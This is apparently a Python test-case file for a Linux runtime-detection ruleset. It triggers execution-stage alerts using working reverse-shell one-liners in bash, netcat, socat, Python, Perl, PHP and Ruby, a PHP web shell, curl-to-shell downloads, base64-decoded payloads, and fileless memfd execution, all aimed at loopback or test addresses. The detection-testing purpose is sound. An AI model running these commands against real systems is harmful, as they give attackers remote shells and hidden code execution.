# SPDX-License-Identifier: Apache-2.0
"""Execution (TA0002): reverse shells of every common form, shells spawned by a
web server, remote and decoded scripts piped to a shell, payloads run from
temporary, hidden and memory-backed places, terminal shells in containers.
Rules: rules/10_execution.yaml (and the connection rules of 70_command_and_control)."""
from detlib import Benign, Case

BOTH = ("host", "container")
SOCKET_DUP = "Reverse Shell Redirected to a Socket"
NO_TTY = "Interactive Shell Without a Terminal"
DEVTCP = "Shell Command Line Opens /dev/tcp"
NC_ARGS = "Netcat Reverse Shell Arguments"
FIFO = "Named Pipe Relayed to a Network Tool"
SHELL_CONNECT = "Shell Opened a Network Connection"

# A tiny web root served by python's http.server on $DET_PORT2 (as an intruder's
# staging server would be); every script sources it where it needs a download.
SERVE = r'''
    mkdir -p "$DET_DIR/www"
    printf '#!/bin/sh\necho staged-payload-ran\n' > "$DET_DIR/www/stage.sh"
    cp /bin/true "$DET_DIR/www/implant"
    (cd "$DET_DIR/www" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "$DET_PORT2" \
        </dev/null >/dev/null 2>&1) &
    det_wait_port 127.0.0.1 "$DET_PORT2"
'''

CASES = [
    # --- reverse shells: bash /dev/tcp -------------------------------------------------
    Case(id="execution.revshell.bash_devtcp_loopback", tactic="execution", technique="T1059.004",
         rules=[SOCKET_DUP, DEVTCP, NO_TTY],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 bash -c "bash -i >& /dev/tcp/127.0.0.1/$DET_PORT 0>&1" || true
         ''', where=BOTH),
    Case(id="execution.revshell.bash_devtcp_internet", tactic="execution", technique="T1059.004",
         rules=[SOCKET_DUP, DEVTCP, SHELL_CONNECT],
         trigger=r'''
            det_ns_listen 4444
            timeout -s KILL 3 bash -c "bash -i >& /dev/tcp/$DET_NS_ADDR/4444 0>&1" || true
         ''', where=BOTH),
    # sh (dash) has no /dev/tcp: the intruder opens it with bash's exec, then hands the
    # descriptor to sh. The dup is made by sh on a socket it inherited.
    Case(id="execution.revshell.sh_inherited_socket", tactic="execution", technique="T1059.004",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 bash -c 'exec 5<>/dev/tcp/127.0.0.1/'"$DET_PORT"'; exec /bin/sh <&5 >&5 2>&5' || true
         ''', where=BOTH),
    # --- netcat family -----------------------------------------------------------------
    Case(id="execution.revshell.ncat_e", tactic="execution", technique="T1059.004",
         rules=[SOCKET_DUP, NC_ARGS],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 ncat 127.0.0.1 "$DET_PORT" -e /bin/sh || true
         ''', where=BOTH, needs=["ncat"]),
    Case(id="execution.revshell.ncat_sh_exec_internet", tactic="execution", technique="T1059.004",
         rules=[SOCKET_DUP, NC_ARGS],
         trigger=r'''
            det_ns_listen 9001
            timeout -s KILL 3 ncat "$DET_NS_ADDR" 9001 --sh-exec "/bin/bash -i" || true
         ''', where=BOTH, needs=["ncat"]),
    Case(id="execution.revshell.busybox_nc_e", tactic="execution", technique="T1059.004",
         rules=[SOCKET_DUP, NC_ARGS],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 busybox nc 127.0.0.1 "$DET_PORT" -e /bin/sh || true
         ''', where=BOTH, needs=["busybox"]),
    Case(id="execution.revshell.mkfifo_nc", tactic="execution", technique="T1059.004",
         rules=[FIFO, NO_TTY],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 bash -c "rm -f /tmp/f.$$; mkfifo /tmp/f.$$; cat /tmp/f.$$ | /bin/sh -i 2>&1 | nc 127.0.0.1 $DET_PORT > /tmp/f.$$" || true
         ''', cleanup='rm -f /tmp/f.*', where=BOTH, needs=["nc"]),
    Case(id="execution.revshell.mkfifo_telnet_internet", tactic="execution", technique="T1059.004",
         rules=[FIFO],
         trigger=r'''
            det_ns_listen 8023
            timeout -s KILL 3 bash -c "mknod $DET_DIR/p p; telnet $DET_NS_ADDR 8023 0<$DET_DIR/p | /bin/sh 1>$DET_DIR/p" || true
         ''', where=BOTH, needs=["telnet"]),
    Case(id="execution.revshell.telnet_pipe_sh_telnet", tactic="execution", technique="T1059.004",
         rules=[FIFO],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            det_listen_tcp 127.0.0.1 "$DET_PORT2"
            timeout -s KILL 3 bash -c "telnet 127.0.0.1 $DET_PORT 2>/dev/null | /bin/sh | telnet 127.0.0.1 $DET_PORT2" || true
         ''', where=BOTH, needs=["telnet"]),
    Case(id="execution.revshell.socat_exec_pty", tactic="execution", technique="T1059.004",
         rules=[NC_ARGS],
         trigger=r'''
            det_ns_listen 4443
            timeout -s KILL 3 socat "TCP:$DET_NS_ADDR:4443" EXEC:'/bin/bash -li',pty,stderr,setsid,sigint,sane || true
         ''', where=BOTH, needs=["socat"]),
    # --- interpreters --------------------------------------------------------------------
    Case(id="execution.revshell.python_pty", tactic="execution", technique="T1059.006",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_ns_listen 4242
            timeout -s KILL 3 /usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("'"$DET_NS_ADDR"'",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' || true
         ''', where=BOTH),
    Case(id="execution.revshell.python_subprocess_loopback", tactic="execution", technique="T1059.006",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 /usr/bin/python3 -c 'import socket,subprocess;s=socket.create_connection(("127.0.0.1",'"$DET_PORT"'));subprocess.call(["/bin/sh","-i"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())' || true
         ''', where=BOTH),
    Case(id="execution.revshell.perl", tactic="execution", technique="T1059",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 perl -e 'use Socket;$i="127.0.0.1";$p='"$DET_PORT"';socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' || true
         ''', where=BOTH, needs=["perl"]),
    Case(id="execution.revshell.php_fsockopen", tactic="execution", technique="T1059",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_ns_listen 1337
            timeout -s KILL 3 php -r '$sock=fsockopen("'"$DET_NS_ADDR"'",1337);exec("/bin/sh -i <&3 >&3 2>&3");' || true
         ''', where=BOTH, needs=["php"]),
    Case(id="execution.revshell.php_proc_open", tactic="execution", technique="T1059",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 php -r '$s=fsockopen("127.0.0.1",'"$DET_PORT"');$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);' || true
         ''', where=BOTH, needs=["php"]),
    Case(id="execution.revshell.ruby", tactic="execution", technique="T1059",
         rules=[SOCKET_DUP],
         trigger=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            timeout -s KILL 3 ruby -rsocket -e 's=TCPSocket.new("127.0.0.1",'"$DET_PORT"');[STDIN,STDOUT,STDERR].each{|io| io.reopen(s)};exec "/bin/sh -i"' || true
         ''', where=BOTH, needs=["ruby"]),
    Case(id="execution.revshell.gawk_inet", tactic="execution", technique="T1059",
         rules=[SHELL_CONNECT],
         trigger=r'''
            det_ns_listen 4445
            timeout -s KILL 3 gawk 'BEGIN {s = "/inet/tcp/0/'"$DET_NS_ADDR"'/4445"; print "ready" |& s; s |& getline c; close(s)}' || true
         ''', where=BOTH, needs=["gawk"]),
    # --- services spawning shells --------------------------------------------------------
    Case(id="execution.webshell.php_builtin_server", tactic="persistence", technique="T1505.003",
         rules=["Shell Spawned by Service Daemon"],
         trigger=r'''
            mkdir -p "$DET_DIR/web"
            printf '<?php echo shell_exec($_GET["c"]); ?>' > "$DET_DIR/web/cmd.php"
            php -S "127.0.0.1:$DET_PORT2" -t "$DET_DIR/web" </dev/null >/dev/null 2>&1 &
            det_wait_port 127.0.0.1 "$DET_PORT2"
            curl -fsS "http://127.0.0.1:$DET_PORT2/cmd.php?c=id" >/dev/null
         ''', where=BOTH, needs=["php", "curl"]),
    # --- downloaded / decoded scripts into a shell ----------------------------------------
    Case(id="execution.remote_script.curl_pipe_sh", tactic="execution", technique="T1059.004",
         rules=["Remote Script Piped to a Shell"],
         trigger=SERVE + r'''
            bash -c "curl -fsSL http://127.0.0.1:$DET_PORT2/stage.sh | sh"
         ''', where=BOTH, needs=["curl"]),
    Case(id="execution.remote_script.wget_pipe_bash", tactic="execution", technique="T1059.004",
         rules=["Remote Script Piped to a Shell"],
         trigger=SERVE + r'''
            bash -c "wget -qO- http://127.0.0.1:$DET_PORT2/stage.sh | bash"
         ''', where=BOTH, needs=["wget"]),
    Case(id="execution.remote_script.sh_c_subst_curl", tactic="execution", technique="T1059.004",
         rules=["Remote Script Piped to a Shell"],
         trigger=SERVE + r'''
            sh -c "bash -c \"\$(curl -fsSL http://127.0.0.1:$DET_PORT2/stage.sh)\""
         ''', where=BOTH, needs=["curl"]),
    Case(id="execution.decoded.base64_pipe_bash", tactic="defense_evasion", technique="T1140",
         rules=["Decoded Payload Piped to a Shell"],
         trigger=r'''
            bash -c "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | bash" >/dev/null
         ''', where=BOTH),
    Case(id="execution.decoded.bash_c_base64_subst", tactic="defense_evasion", technique="T1140",
         rules=["Decoded Payload Piped to a Shell"],
         trigger=r'''
            sh -c 'bash -c "$(echo aWQ7IGhvc3RuYW1lCg== | base64 --decode)"' >/dev/null
         ''', where=BOTH),
    # --- payloads dropped and run ----------------------------------------------------------
    Case(id="execution.dropped.tmp_download_chmod_exec", tactic="execution", technique="T1204.002",
         rules=["File Made Executable in Temporary Directory", "Execution from Temporary Directory"],
         trigger=SERVE + r'''
            curl -fsS -o /tmp/upd.$$ "http://127.0.0.1:$DET_PORT2/implant"
            chmod +x /tmp/upd.$$
            /tmp/upd.$$
         ''', cleanup='rm -f /tmp/upd.*', where=BOTH, needs=["curl"]),
    Case(id="execution.dropped.var_tmp_wget_exec", tactic="execution", technique="T1204.002",
         rules=["File Made Executable in Temporary Directory", "Execution from Temporary Directory"],
         trigger=SERVE + r'''
            wget -q -O /var/tmp/kupd.$$ "http://127.0.0.1:$DET_PORT2/implant"
            chmod 755 /var/tmp/kupd.$$ && /var/tmp/kupd.$$
         ''', cleanup='rm -f /var/tmp/kupd.*', where=BOTH, needs=["wget"]),
    Case(id="execution.dropped.dev_shm", tactic="execution", technique="T1204.002",
         rules=["Execution from Hidden or Shared-Memory Directory"],
         trigger=r'''
            cp /bin/true /dev/shm/sd-agent.$$
            /dev/shm/sd-agent.$$
         ''', cleanup='rm -f /dev/shm/sd-agent.*', where=BOTH),
    Case(id="execution.dropped.hidden_dir", tactic="defense_evasion", technique="T1564.001",
         rules=["Execution from Hidden or Shared-Memory Directory"],
         trigger=r'''
            mkdir -p "$DET_DIR/.X11-cache"
            cp /bin/true "$DET_DIR/.X11-cache/dbus-helper"
            "$DET_DIR/.X11-cache/dbus-helper"
         ''', where=BOTH),
    Case(id="execution.dropped.hidden_in_tmp_python", tactic="defense_evasion", technique="T1564.001",
         rules=["Execution from Hidden or Shared-Memory Directory", "Execution from Temporary Directory"],
         trigger=r'''
            mkdir -p /tmp/.ICE-x.$$
            /usr/bin/python3 -c 'import shutil,os,sys;p=sys.argv[1]+"/kthreadd";shutil.copy("/bin/true",p);os.chmod(p,0o755);os.execv(p,[p])' /tmp/.ICE-x.$$
         ''', cleanup='rm -rf /tmp/.ICE-x.*', where=BOTH),
    Case(id="execution.fileless.memfd_python", tactic="defense_evasion", technique="T1620",
         rules=["Fileless Execution from Memory"],
         trigger=r'''
            /usr/bin/python3 -c 'import os;f=os.memfd_create("",0);os.write(f,open("/bin/true","rb").read());os.execv("/proc/self/fd/%d"%f,["[kworker/0:1]"])'
         ''', where=BOTH),
    Case(id="execution.fileless.memfd_perl", tactic="defense_evasion", technique="T1620",
         rules=["Fileless Execution from Memory"],
         trigger=r'''
            perl -e 'my $nm="x"; my $n=syscall(319,$nm,0); open(my $fh,">&=".$n) or die; open(my $b,"<","/bin/true"); binmode $b; local $/; my $d=<$b>; print {$fh} $d; close $b; $fh->flush; exec {"/proc/$$/fd/$n"} "sshd";'
         ''', where=BOTH, needs=["perl"]),
    # --- interactive shells in containers -------------------------------------------------
    Case(id="execution.container.terminal_shell", tactic="execution", technique="T1059.004",
         rules=["Terminal Shell in Container"],
         trigger=r'''
            script -qec "/bin/bash -c 'id; exit 0'" /dev/null </dev/null >/dev/null
         ''', where=("container",), needs=["script"]),
]

BENIGN = [
    Benign(id="benign.execution.curl_health_check_and_download", script=SERVE + r'''
            curl -fsS -o /dev/null -w '%{http_code}\n' "http://127.0.0.1:$DET_PORT2/"
            curl -fsS -o "$DET_DIR/stage.sh" "http://127.0.0.1:$DET_PORT2/stage.sh"
            wget -q -O /tmp/release.$$.tar "http://127.0.0.1:$DET_PORT2/implant"
            rm -f /tmp/release.$$.tar
            curl -fsS "http://127.0.0.1:$DET_PORT2/stage.sh" | grep -c echo >/dev/null
         ''', where=BOTH, needs=["curl", "wget"]),
    Benign(id="benign.execution.nc_port_check", script=r'''
            det_listen_tcp 127.0.0.1 "$DET_PORT"
            nc -z -w 2 127.0.0.1 "$DET_PORT"
            nc -zv -w 2 127.0.0.1 "$DET_PORT" 2>/dev/null
            ncat -z 127.0.0.1 "$DET_PORT" || true
         ''', where=BOTH, needs=["nc", "ncat"]),
    Benign(id="benign.execution.compile_and_run", script=r'''
            cd "$DET_DIR"
            printf '#include <stdio.h>\nint main(void){puts("hello");return 0;}\n' > hello.c
            gcc -O2 -o hello hello.c
            ./hello
            bash -c "gcc -o /tmp/hello.$$ hello.c && /tmp/hello.$$"
            rm -f /tmp/hello.$$
         ''', where=("host",), needs=["gcc"]),
    # A source tarball unpacked and built in /tmp: configure runs its conftest,
    # make builds and runs a test program (modes come from the archive).
    Benign(id="benign.execution.configure_and_make_in_tmp", script=r'''
            mkdir -p "$DET_DIR/src/pkg-1.0"
            cd "$DET_DIR/src/pkg-1.0"
            printf '%s\n' '#!/bin/sh' 'echo "checking whether the C compiler works..."' \
                "printf 'int main(void){return 0;}\\n' > conftest.c" \
                'gcc -o conftest conftest.c && ./conftest && echo yes' \
                'rm -f conftest conftest.c' \
                "printf 'all: t\\n\\t./t\\nt: t.c\\n\\tgcc -o t t.c\\n' > Makefile" > configure
            chmod 755 configure
            printf 'int main(void){return 0;}\n' > t.c
            tar czf "$DET_DIR/pkg-1.0.tar.gz" -C "$DET_DIR/src" pkg-1.0
            d=$(mktemp -d /tmp/build.XXXXXX)
            cd "$d"
            tar xzf "$DET_DIR/pkg-1.0.tar.gz"
            cd pkg-1.0
            ./configure
            make -s
            cd / && rm -rf "$d"
         ''', where=("host",), needs=["gcc", "make"]),
    Benign(id="benign.execution.admin_http_server", script=r'''
            (cd "$DET_DIR" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "$DET_PORT2" </dev/null >/dev/null 2>&1) &
            det_wait_port 127.0.0.1 "$DET_PORT2"
            curl -fsS -o /dev/null "http://127.0.0.1:$DET_PORT2/"
         ''', where=BOTH, needs=["curl"]),
    Benign(id="benign.execution.exec_without_tty", script=r'''
            sh -c 'id; hostname; ls / >/dev/null'
            bash -c 'ps -e >/dev/null; cat /etc/os-release >/dev/null'
            bash -lc 'true'
         ''', where=BOTH),
    Benign(id="benign.execution.python_from_pyenv_and_venv", script=r'''
            /usr/bin/python3 -m venv "$DET_DIR/.venv" --without-pip
            "$DET_DIR/.venv/bin/python3" -c 'print(1)'
         ''', where=("host",)),
    Benign(id="benign.execution.ssh_keygen_and_scp_local", script=r'''
            ssh-keygen -q -t ed25519 -N '' -C admin@host -f "$DET_DIR/id_admin"
            ssh-keygen -l -f "$DET_DIR/id_admin.pub" >/dev/null
            echo report > "$DET_DIR/report.txt"
            scp -q "$DET_DIR/report.txt" "$DET_DIR/report.copy"
         ''', where=("host",), needs=["ssh-keygen", "scp"]),
]

# Sequence rules (the end of rules/10_execution.yaml).
CASES += [
    Case(id="execution.seq.download_then_exec", tactic="execution", technique="T1105",
         rules=["Downloaded File Executed"],
         trigger=SERVE + r'''
            curl -fsS -o /tmp/dl.$$ "http://127.0.0.1:$DET_PORT2/implant"
            chmod 700 /tmp/dl.$$ && /tmp/dl.$$
         ''', cleanup='rm -f /tmp/dl.*', where=BOTH, needs=["curl"]),
    Case(id="execution.seq.deleted_binary_running", tactic="defense_evasion", technique="T1070.004",
         rules=["Running Program's Executable Deleted"],
         trigger=r'''
            cp /bin/sleep /var/tmp/.kdevtmp.$$
            /var/tmp/.kdevtmp.$$ 3 &
            sleep 0.5
            rm -f /var/tmp/.kdevtmp.$$
            wait
         ''', cleanup='rm -f /var/tmp/.kdevtmp.*', where=BOTH),
    # curl | sh typed in a script: no single command line holds both ends.
    Case(id="execution.seq.curl_pipe_sh_in_script", tactic="execution", technique="T1059.004",
         rules=["Downloader and Shell Started by the Same Parent",
                "Shell and Downloader Started by the Same Parent"],
         trigger=SERVE + r'''
            curl -fsSL "http://127.0.0.1:$DET_PORT2/stage.sh" | sh
         ''', where=BOTH, needs=["curl"]),
]
